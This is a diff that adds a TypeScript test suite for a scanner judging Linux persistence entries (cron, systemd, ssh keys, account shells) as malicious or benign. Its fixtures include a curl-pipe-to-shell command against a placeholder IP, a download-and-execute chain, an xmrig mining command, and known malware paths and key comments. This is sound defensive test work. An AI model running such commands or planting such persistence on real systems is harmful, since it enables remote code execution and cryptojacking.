@@ -1,0 +1,330 @@
+import { describe, expect, test } from 'bun:test';
+import { messagesFor } from '../../messages/index.ts';
+import type { Fact } from '../../model/fact.ts';
+import type { PersistenceFact, PersistenceMark } from '../../model/facts/persistence.ts';
+import { type Mechanism, mechanisms } from '../../model/mechanism.ts';
+import {
+  cpuUse,
+  factSet,
+  judgeContext,
+  login,
+  miningTrace,
+  nowUs,
+  ownedBy,
+  ownerConfig,
+  processFact,
+  text,
+  told,
+  wallet,
+} from '../facts.fixture.ts';
+import { judge } from '../judge.ts';
+import { entryFact, fileFact, integrityFact, scriptFact } from './entry.fixture.ts';
+import { judgeEntries } from './judge-entries.ts';
+
+const fetches = 'curl -s http://192.0.2.1/a.sh | sh';
+
+/** Judgement and reasons of the first entry. */
+function first(...facts: readonly Fact[]): string {
+  const [entry] = judgeEntries(factSet(...facts), judgeContext());
+  return entry === undefined ? 'none' : `${entry.judgement}: ${entry.reasons.map(({ id }) => id).join(', ')}`;
+}
+
+const unowned = (path: string, parts: Parameters<typeof fileFact>[1] = {}): readonly Fact[] => [
+  fileFact(path, parts),
+  ownedBy(path, ''),
+];
+
+describe('what is run', () => {
+  test('fetched and run is malicious, with its line as evidence', () => {
+    const [entry] = judgeEntries(factSet(entryFact(fetches)), judgeContext());
+    expect(entry?.judgement).toBe('malicious');
+    expect(entry?.reasons[0]).toEqual({
+      id: 'fetch-and-run',
+      params: { url: text('http://192.0.2.1/a.sh') },
+      evidence: [{ source: text('/etc/cron.d/job'), line: 3, text: text(fetches) }],
+    });
+  });
+
+  test('over TLS into a place of owners it is suspicious', () => {
+    const command =
+      'curl -so /usr/local/bin/h https://x.example/h && chmod +x /usr/local/bin/h && /usr/local/bin/h';
+    expect(first(entryFact(command))).toBe('suspicious: fetch-then-run');
+  });
+
+  test('text that a package brought and nobody changed says nothing', () => {
+    const at = '/etc/cron.d/job';
+    expect(first(entryFact(fetches, { at }), integrityFact(at, 'unchanged'))).toBe('benign: ');
+    expect(first(entryFact(fetches, { at }), integrityFact(at, 'conffile-changed'))).toBe(
+      'malicious: fetch-and-run',
+    );
+  });
+
+  test('an entry that would not run is suspicious, a comment is nothing', () => {
+    expect(first(entryFact(fetches, { active: false }))).toBe('suspicious: fetch-and-run');
+    expect(first(entryFact(fetches, { active: false, text: text(`# ${fetches}`) }))).toBe('benign: ');
+  });
+});
+
+describe('where it lies', () => {
+  const cases: readonly (readonly [string, string, string])[] = [
+    ['/tmp/x', 'suspicious', 'temporary-path'],
+    ['/dev/shm/x', 'suspicious', 'temporary-path'],
+    ['/tmp/.x/y', 'suspicious', 'temporary-path, hidden-path'],
+    ['/usr/sbin/netd', 'suspicious', 'unowned-among-owned'],
+    ['/usr/lib/x/helper', 'suspicious', 'unowned-among-owned'],
+    ['/etc/x/helper', 'suspicious', 'program-among-data'],
+    ['/var/lib/x/helper', 'suspicious', 'program-among-data'],
+    ['/usr/share/.a/b', 'malicious', 'hidden-path, unowned-among-owned'],
+    ['/usr/bin/kworker0', 'malicious', 'unowned-among-owned, look-alike-name'],
+    ['/usr/bin/systemd-jornald', 'malicious', 'unowned-among-owned, look-alike-name'],
+    ['/opt/node_exporter/node_exporter', 'benign', ''],
+    ['/usr/local/bin/backup', 'benign', ''],
+    ['/srv/app/run', 'benign', ''],
+    ['/home/ada/bin/job', 'benign', ''],
+    ['/root/.acme.sh/acme.sh', 'benign', ''],
+    ['/home/ada/.nvm/versions/node/v20/bin/node', 'benign', ''],
+    ['/srv/app/.venv/bin/python', 'benign', ''],
+    ['/var/lib/docker/x', 'benign', ''],
+  ];
+  for (const [path, judgement, reasons] of cases) {
+    test(`${path} is ${judgement}`, () => {
+      expect(first(entryFact(`${path} --daily`), ...unowned(path))).toBe(`${judgement}: ${reasons}`);
+    });
+  }
+
+  test('a script of the owner in /etc is nothing', () => {
+    expect(
+      first(entryFact('/etc/backup/run.sh'), ...unowned('/etc/backup/run.sh', { format: 'script' })),
+    ).toBe('benign: ');
+  });
+
+  test('a program of a package is nothing, in either spelling of a merged /usr', () => {
+    expect(
+      first(entryFact('/bin/true'), fileFact('/usr/bin/true'), ownedBy('/usr/bin/true', 'coreutils')),
+    ).toBe('benign: ');
+  });
+
+  test('a link that leads to a program of a package is nothing', () => {
+    const link = fileFact('/usr/bin/editor', { type: 'link', leadsTo: text('/usr/bin/vim.basic') });
+    expect(
+      first(
+        entryFact('/usr/bin/editor'),
+        link,
+        ownedBy('/usr/bin/editor', ''),
+        ownedBy('/usr/bin/vim.basic', 'vim'),
+      ),
+    ).toBe('benign: ');
+  });
+
+  test('a program without a path is found on PATH', () => {
+    expect(first(entryFact('netd'), ...unowned('/usr/sbin/netd'))).toBe('suspicious: unowned-among-owned');
+  });
+
+  test('a unit that no package brought among those of packages is suspicious, among the owner’s it is not', () => {
+    const unit = (at: string): readonly Fact[] => [
+      entryFact('/opt/x/run', { at, mechanism: 'systemd-service' }),
+      ...unowned(at, { format: 'text', mode: 0o100644 }),
+    ];
+    expect(first(...unit('/usr/lib/systemd/system/x.service'))).toBe('suspicious: unowned-among-owned');
+    expect(first(...unit('/etc/systemd/system/x.service'))).toBe('benign: ');
+  });
+
+  test('a target that is not there is unusual', () => {
+    expect(first(entryFact('/opt/gone'), fileFact('/opt/gone', { status: 'absent' }))).toBe(
+      'unusual: absent-target',
+    );
+  });
+});
+
+describe('the files it rests on', () => {
+  const script = '/usr/lib/x/daily';
+  const job = entryFact(script);
+
+  test('an edited script of a package is suspicious, a replaced program malicious', () => {
+    const changed = integrityFact(script, 'changed', 'x');
+    expect(first(job, changed, fileFact(script, { format: 'script' }))).toBe(
+      'suspicious: edited-package-file',
+    );
+    expect(first(job, changed, fileFact(script))).toBe('malicious: replaced-package-file');
+    expect(first(job, integrityFact(script, 'unchanged', 'x'), fileFact(script))).toBe('benign: ');
+  });
+
+  test('settings that owners edit are nothing', () => {
+    expect(
+      first(
+        entryFact('true', { at: '/etc/crontab' }),
+        integrityFact('/etc/crontab', 'conffile-changed', 'cron'),
+      ),
+    ).toBe('benign: ');
+  });
+
+  test('an immutable entry is suspicious; resolv.conf, which owners lock, unusual', () => {
+    const locked = (at: string, mechanism: Mechanism): readonly Fact[] => [
+      entryFact('', { at, mechanism, language: 'none' }),
+      fileFact(at, { flags: ['immutable'], format: 'text' }),
+    ];
+    expect(first(...locked('/var/spool/cron/root', 'cron-user'))).toBe('suspicious: immutable');
+    expect(first(...locked('/etc/resolv.conf', 'resolver'))).toBe('unusual: immutable');
+  });
+
+  test('a locked folder guards its files', () => {
+    const folder = fileFact('/opt/x', { type: 'directory', flags: ['immutable'], format: 'other' });
+    expect(first(entryFact('/opt/x/run'), ...unowned('/opt/x/run'), folder)).toBe('suspicious: immutable');
+  });
+
+  test('a file that everybody may change is suspicious', () => {
+    expect(first(entryFact('/opt/x/run'), ...unowned('/opt/x/run', { mode: 0o100777 }))).toBe(
+      'suspicious: writable-by-all',
+    );
+  });
+
+  test('a new file among old ones of packages is unusual by itself', () => {
+    const beside = ['a', 'b', 'c'].flatMap((name) => [
+      fileFact(`/etc/cron.d/${name}`),
+      ownedBy(`/etc/cron.d/${name}`, name),
+    ]);
+    const own = unowned('/etc/cron.d/job', { changedUs: nowUs, format: 'text' });
+    expect(first(entryFact('true'), ...own, ...beside)).toBe('unusual: newer-than-neighbours');
+  });
+});
+
+describe('marks', () => {
+  const mark = (...marks: readonly PersistenceMark[]): PersistenceFact =>
+    entryFact('', {
+      marks,
+      mechanism: 'account-system-shell',
+      language: 'none',
+      text: text('news:x:9:9::/:/bin/sh'),
+    });
+
+  test('a shell with a blank behind it is malicious', () => {
+    expect(first(mark('shell-with-blank'))).toBe('malicious: shell-with-blank');
+  });
+
+  test('a shell of an account that nobody logs in to is suspicious, of a service it is unusual', () => {
+    expect(first({ ...mark('system-account-shell'), user: text('news') })).toBe(
+      'suspicious: system-account-shell',
+    );
+    expect(first({ ...mark('system-account-shell'), user: text('postgres') })).toBe(
+      'unusual: system-account-shell',
+    );
+  });
+
+  test('what restarts or is switched off is nothing by that', () => {
+    expect(first(mark('restarts', 'switched-off'))).toBe('benign: ');
+  });
+});
+
+describe('known families', () => {
+  const cases: readonly (readonly [string, boolean])[] = [
+    ['/tmp/kdevtmpfsi', true],
+    ['/root/.configrc5/a/upd', true],
+    ['/usr/bin/pamdicks', true],
+    ['/lib/libudev.so', true],
+    ['/usr/local/qcloud/YunJing/YDEyes/YDService', false],
+    ['/usr/lib/x86_64-linux-gnu/libsystemd.so', false],
+    ['/opt/mine/kinsing-report', false],
+  ];
+  for (const [path, marked] of cases) {
+    test(`${path} is ${marked ? '' : 'not '}one`, () => {
+      expect(first(entryFact(path), ...unowned(path)).includes('family-mark')).toBe(marked);
+    });
+  }
+
+  test('the comment of a key tells by the whole word', () => {
+    const key = (comment: string): Fact =>
+      entryFact('', {
+        mechanism: 'ssh-authorized-key',
+        language: 'none',
+        text: text(`ssh-rsa AAAA ${comment}`),
+      });
+    expect(first(key('mdrfckr'))).toBe('malicious: family-mark');
+    expect(first(key('ada@mdrfckrx'))).toBe('benign: ');
+  });
+});
+
+describe('with others', () => {
+  const path = '/opt/.sys/run';
+  const process = processFact({ pid: 100, path });
+  const mines = [
+    process,
+    cpuUse(process, 390),
+    miningTrace(process, login),
+    miningTrace(process, wallet()),
+    ownedBy(path, ''),
+  ];
+
+  test('what starts a process that mines is malicious, and the process has a witness more', () => {
+    const facts = factSet(entryFact('/opt/.sys/run'), ...mines);
+    const [entry] = judgeEntries(facts, judgeContext());
+    expect(`${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`).toBe(
+      'malicious: running-miner, hidden-path',
+    );
+    const { processes, findings, verdict } = judge(facts, judgeContext(), []);
+    expect(verdict).toBe('mining');
+    expect(processes[0]?.witnesses).toContain('file');
+    expect(told(findings)).toContain('persistence.starts-process medium');
+  });
+
+  test('cron, in whose cgroup its jobs run, is not accused', () => {
+    const at = '/usr/lib/systemd/system/cron.service';
+    const unit = entryFact('/usr/sbin/cron -f', { at, mechanism: 'systemd-service', language: 'argv' });
+    const inCron = { ...process, unit: 'cron.service' };
+    const facts = [unit, integrityFact(at, 'unchanged', 'cron'), inCron, ...mines.slice(1)];
+    expect(first(...facts, ownedBy('/usr/sbin/cron', 'cron'))).toBe('benign: ');
+  });
+
+  test('the address of a malicious entry makes another with it suspicious', () => {
+    const other = entryFact('curl -s http://192.0.2.1/a.sh -o /var/cache/x.sh', { at: '/etc/cron.d/other' });
+    const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
+    expect(entries[1]?.judgement).toBe('suspicious');
+    expect(entries[1]?.reasons.map(({ id }) => id)).toEqual(['same-url']);
+  });
+
+  test('the owner’s declared miner is started in peace', () => {
+    const miner = entryFact('/opt/xmrig/xmrig -o stratum+tcp://pool.example:3333 -u w');
+    expect(first(miner)).toStartWith('malicious: miner-command');
+    const config = ownerConfig({ mining: [{ exe: '/opt/xmrig/xmrig', reason: 'ours' }] });
+    expect(judgeEntries(factSet(miner), judgeContext({ config }))[0]?.judgement).toBe('benign');
+  });
+});
+
+describe('findings', () => {
+  test('a host with a malicious entry is suspicious, with traces only', () => {
+    const { verdict, state, findings } = judge(factSet(entryFact(fetches)), judgeContext(), []);
+    expect([verdict, state]).toEqual(['suspicious', 'traces']);
+    expect(findings.map(({ rule, severity, technique }) => `${rule} ${severity} ${technique}`)).toEqual([
+      'persistence.malicious high T1053.003',
+    ]);
+  });
+
+  test('an exception of the owner excuses it by its file', () => {
+    const config = ownerConfig({
+      exceptions: [{ rule: 'persistence.malicious', path: '/etc/cron.d/job', reason: 'our bootstrap' }],
+    });
+    const { verdict, excused } = judge(factSet(entryFact(fetches)), judgeContext({ config }), []);
+    expect([verdict, excused.length]).toEqual(['clean', 1]);
+  });
+
+  test('entries are judged once for all who ask', () => {
+    const facts = factSet(entryFact(fetches));
+    const context = judgeContext();
+    expect(judgeEntries(facts, context)).toBe(judgeEntries(facts, context));
+    facts.add(scriptFact('true'));
+    expect(judgeEntries(facts, context).length).toBe(2);
+  });
+
+  test('a crowd of bad entries is told up to a bound', () => {
+    const crowd = Array.from({ length: 2000 }, (_, at) => entryFact(fetches, { at: `/etc/cron.d/${at}` }));
+    const { findings } = judge(factSet(...crowd), judgeContext(), []);
+    expect(findings.length).toBe(300);
+  });
+});
+
+test('every mechanism has a name in both languages', () => {
+  for (const language of ['en', 'zh-CN'] as const) {
+    const names: Readonly<Record<Mechanism, string>> = messagesFor(language).persistence.mechanisms;
+    for (const mechanism of mechanisms) expect(`${mechanism}: ${names[mechanism]}`).toMatch(/: \S/);
+    expect(Object.keys(names).sort()).toEqual([...mechanisms].sort());
+  }
+});
